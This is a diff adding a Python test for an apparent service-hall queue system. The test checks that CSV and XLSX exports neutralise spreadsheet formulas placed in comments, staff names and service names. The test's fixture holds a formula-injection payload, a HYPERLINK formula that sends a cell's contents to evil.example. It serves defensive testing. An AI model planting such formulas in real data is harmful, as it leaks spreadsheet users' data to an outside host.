@@ -167,3 +167,44 @@ def test_a_period_of_records_exports_as_csv_and_xlsx_cut_at_the_halls_midnight(
     err(export("2026-11-24", "2026-11-23", "csv"), 422, "invalid_period", "until")
     err(export("2026-11-31", "2026-11-30", "csv"), 422, "invalid", "since")
     err(export("2025-01-01", "2026-11-30", "csv"), 422, "period_too_long", "until")
+
+
+def test_the_exported_records_neutralise_formulas(client, kiosk_headers, staff_client,
+                                                  supervisor_client, seeded):
+    """Issue 16, item 8: a visitor's comment, a staff member's name or a service's name
+    that begins like a formula (``=HYPERLINK(``, ``@SUM(``, ``+``, ``-``) comes out of the
+    records' CSV and XLSX as text — openpyxl reads a string, not a formula, and the CSV
+    cell starts with ' — while the record the province receives keeps the words as given."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    with seeded.engine.begin() as conn:
+        conn.execute(text("UPDATE staff SET name = '@SUM(1+1)' WHERE login = 'li'"))
+        conn.execute(text("UPDATE services SET name = '-2+3' WHERE code = 'hj'"))
+    seeded.cache.clear()
+    sign_in_at_counter(staff_client)
+    pad = bearer(accounts.add_device(seeded, kind="pad", counter_number=1).value["token"])
+    t = issue(client, kiosk_headers).json
+    for step in ("call-next", "start"):
+        assert staff_client.post(f"/api/v1/counters/1/{step}",
+                                 headers=staff_client.csrf).status_code == 200
+    assert staff_client.post("/api/v1/counters/1/finish", json={"outcome": "done"},
+                             headers=staff_client.csrf).status_code == 200
+    r = client.post(f"/api/v1/tickets/{t['id']}/rating", headers=pad,
+                    json={"level": 1, "reason": "等候时间长", "comment": evil})
+    assert r.status_code == 201, r.json
+    (record,) = supervisor_client.get(f"{API}/export?format=json").json["records"]
+    assert (record["evalContent"], record["affairDealOfficer"], record["affairName"]) == (
+        evil, "@SUM(1+1)", "-2+3")  # the province's record: the words as given
+
+    body = supervisor_client.get(f"{API}/export?format=csv").get_data().decode("utf-8-sig")
+    (row,) = list(csv.DictReader(io.StringIO(body)))
+    assert (row["evalContent"], row["affairDealOfficer"], row["affairName"]) == (
+        "'" + evil, "'@SUM(1+1)", "'-2+3")
+    assert row["evalReason"] == "等候时间长"  # plain text stays as it is
+
+    data = supervisor_client.get(f"{API}/export?format=xlsx").get_data()
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, [c.value for c in sheet[2]], strict=True))
+    assert (cells["evalContent"], cells["affairDealOfficer"], cells["affairName"]) == (
+        "'" + evil, "'@SUM(1+1)", "'-2+3")
